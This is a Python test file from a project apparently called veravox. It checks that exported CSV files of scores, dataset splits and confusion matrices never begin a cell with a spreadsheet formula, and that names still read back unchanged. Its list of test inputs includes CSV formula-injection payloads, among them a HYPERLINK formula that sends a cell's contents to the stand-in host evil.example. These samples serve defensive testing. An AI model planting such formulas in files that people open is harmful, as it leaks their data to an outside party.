"""Names that a spreadsheet would run as formulas: no cell of a table that people open begins with one, and nothing is lost."""

import csv
from pathlib import Path

import numpy as np
import pytest
from test_breakdown import judged
from test_robustness import row

from veravox.core.protocols import Part
from veravox.core.spreadsheet import FORMULAS
from veravox.datasets.splits import read_split, write_split
from veravox.detection.figures import write_scores
from veravox.detection.score_files import read_scored
from veravox.training.evidence.confusion import write_confusion

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"open me")', "+1+1", "-2+3", "@SUM(A1)", "'=1", "it's"]
"""An import refuses names with tabs and returns, which cannot be shown."""


def cells(path: Path) -> list[str]:
    with path.open(newline="") as file:
        return [cell for line in csv.reader(file) for cell in line]


def runs(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULAS)
    return False


@pytest.mark.parametrize("name", ATTACKS)
def test_scores_hold_no_formula_and_are_read_back_as_they_were(tmp_path: Path, name: str) -> None:
    human, machine = judged(1, "bonafide", -1.5, speaker=name), judged(2, name, -2.5)
    write_scores(tmp_path / "scores.csv", [human, machine], ["bonafide", "world"])
    assert not any(map(runs, cells(tmp_path / "scores.csv")))
    one, other = read_scored(tmp_path / "scores.csv", None)
    assert (one.name, one.speaker, one.score) == (human.clip, name, -1.5)
    assert (other.name, other.generator, other.score) == (f"{name}/2.wav", name, -2.5)


@pytest.mark.parametrize("name", ATTACKS)
def test_a_split_holds_no_formula_and_is_read_back_as_it_was(tmp_path: Path, name: str) -> None:
    clip = row(name, name)
    write_split(tmp_path / "split.csv", {Part.TRAIN: [clip]})
    assert not any(map(runs, cells(tmp_path / "split.csv")))
    (back,) = read_split(tmp_path / "split.csv")
    assert (back.clip, back.pair) == (clip.clip, name)


@pytest.mark.parametrize("name", ATTACKS)
def test_a_confusion_matrix_holds_no_formula(tmp_path: Path, name: str) -> None:
    write_confusion(tmp_path / "matrix.csv", np.array([[3, 1], [0, 2]]), [name, "world"])
    assert not any(map(runs, cells(tmp_path / "matrix.csv")))
